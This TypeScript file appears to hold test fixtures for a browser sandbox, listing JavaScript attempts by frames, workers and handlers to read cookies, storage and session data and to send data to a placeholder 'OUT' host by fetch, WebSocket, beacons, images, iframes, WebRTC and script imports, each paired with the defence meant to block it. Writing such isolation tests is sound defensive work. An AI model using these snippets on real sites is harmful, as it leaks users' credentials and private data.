import { group, SECRET } from './attempt'

const cookies = group(
  'cookies',
  ['document', 'frame', ['origin'], `return document.cookie.includes('${SECRET}') && 'read'`],
  [
    'store',
    'frame',
    ['origin'],
    `return JSON.stringify(await cookieStore.getAll()).includes('${SECRET}') && 'read'`,
  ],
  [
    'session',
    'worker',
    ['policy', 'origin'],
    `const r = await fetch('OWN/api/auth/session', { credentials: 'include' })
     return (await r.text()).includes('expires') && 'who the learner is'`,
  ],
  ['handler', 'javascript', ['realm'], `return document.cookie.includes('${SECRET}') && 'read'`],
)

const storage = group(
  'storage',
  ['local', 'frame', ['origin'], `return localStorage.getItem('secret')`],
  ['session', 'frame', ['origin'], `return sessionStorage.getItem('secret')`],
  [
    'indexed',
    'worker',
    ['origin'],
    `return await new Promise((resolve, reject) => {
       const asked = indexedDB.open('secret')
       asked.onsuccess = () => resolve([...asked.result.objectStoreNames].join())
       asked.onerror = reject
     })`,
  ],
  [
    'caches',
    'worker',
    ['origin'],
    `return (await caches.keys()).find((name) => name === 'secret')`,
  ],
  [
    'files',
    'worker',
    ['origin'],
    `const root = await navigator.storage.getDirectory()
     return (await (await root.getFileHandle('secret')).getFile()).name`,
  ],
  ['handler', 'javascript', ['fence', 'origin'], `return typeof indexedDB.open('secret')`],
)

const routes = group(
  'routes',
  [
    'read',
    'worker',
    ['policy', 'origin'],
    `const get = (path) => fetch('OWN' + path, { credentials: 'include' })
     const found = await Promise.all(PATHS.map(get))
     return 'answered ' + found.length`,
  ],
  [
    'any',
    'worker',
    ['policy'],
    `await Promise.all(PATHS.map((path) => fetch('OWN' + path, { mode: 'no-cors' })))
     return 'all reached'`,
  ],
  [
    'write',
    'worker',
    ['policy', 'origin'],
    `const r = await fetch('OWN/api/v1/answers', { method: 'POST', body: '{}', credentials: 'include' })
     return 'answered ' + r.status`,
  ],
  [
    'xhr',
    'worker',
    ['policy', 'origin'],
    `const x = new XMLHttpRequest(); x.open('GET', 'OWN/', false); x.send()
     return x.responseText.length > 0 && 'read'`,
  ],
  ['handler', 'javascript', ['fence', 'policy'], `fetch('OUT/routes-handler')`],
  ['shared', 'worker', ['policy'], `await fetch('OUT/routes-shared'); return 'sent'`],
)

const sockets = group(
  'sockets',
  [
    'web',
    'worker',
    ['policy'],
    `new WebSocket('OUT/sockets-web'.replace('http', 'ws')); await later(300)`,
  ],
  ['events', 'worker', ['policy'], `new EventSource('OUT/sockets-events'); await later(300)`],
  [
    'handler',
    'javascript',
    ['fence', 'policy'],
    `new WebSocket('OUT/sockets-handler'.replace('http', 'ws'))`,
  ],
  ['stream', 'frame', ['policy'], `new EventSource('OUT/sockets-stream'); await later(300)`],
)

const beacons = group(
  'beacons',
  [
    'beacon',
    'frame',
    ['policy'],
    `navigator.sendBeacon('OUT/beacons-beacon', 'x'); await later(300)`,
  ],
  [
    'alive',
    'frame',
    ['policy'],
    `await fetch('OUT/beacons-alive', { keepalive: true, mode: 'no-cors' })`,
  ],
  ['image', 'frame', ['policy'], `new Image().src = 'OUT/beacons-image'; await later(300)`],
  [
    'style',
    'frame',
    ['policy'],
    `document.head.innerHTML = '<link rel="stylesheet" href="OUT/beacons-style">'; await later(300)`,
  ],
  [
    'nested',
    'frame',
    ['policy'],
    `const f = document.createElement('iframe'); f.src = 'OUT/beacons-nested'
     document.documentElement.append(f); await later(300)`,
  ],
)

const calls = group(
  'calls',
  [
    'offer',
    'worker',
    ['worker'],
    `const pc = new RTCPeerConnection(); pc.createDataChannel('x')
     return (await pc.createOffer()).sdp`,
  ],
  [
    'addresses',
    'worker',
    ['worker'],
    `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })
     pc.createDataChannel('x'); await pc.setLocalDescription()
     return pc.localDescription.sdp`,
  ],
  ['handler', 'javascript', ['realm'], `return typeof new RTCPeerConnection().createOffer`],
)

const imports = group(
  'imports',
  ['module', 'worker', ['policy', 'origin'], `await import('SCRIPT'); return 'loaded'`],
  ['script', 'worker', ['policy'], `importScripts('SCRIPT'); return 'loaded'`],
  ['outside', 'worker', ['policy'], `await import('OUT/imports-outside'); return 'loaded'`],
  ['handler', 'javascript', ['fence', 'policy'], `importScripts('SCRIPT'); return 'loaded'`],
  [
    'tag',
    'frame',
    ['policy'],
    `const s = document.createElement('script'); s.src = 'OUT/imports-tag'
     document.head.append(s); await later(300)`,
  ],
)

/** To read what our origin keeps, or to send something away. */
export const DATA = [cookies, storage, routes, sockets, beacons, calls, imports].flat()
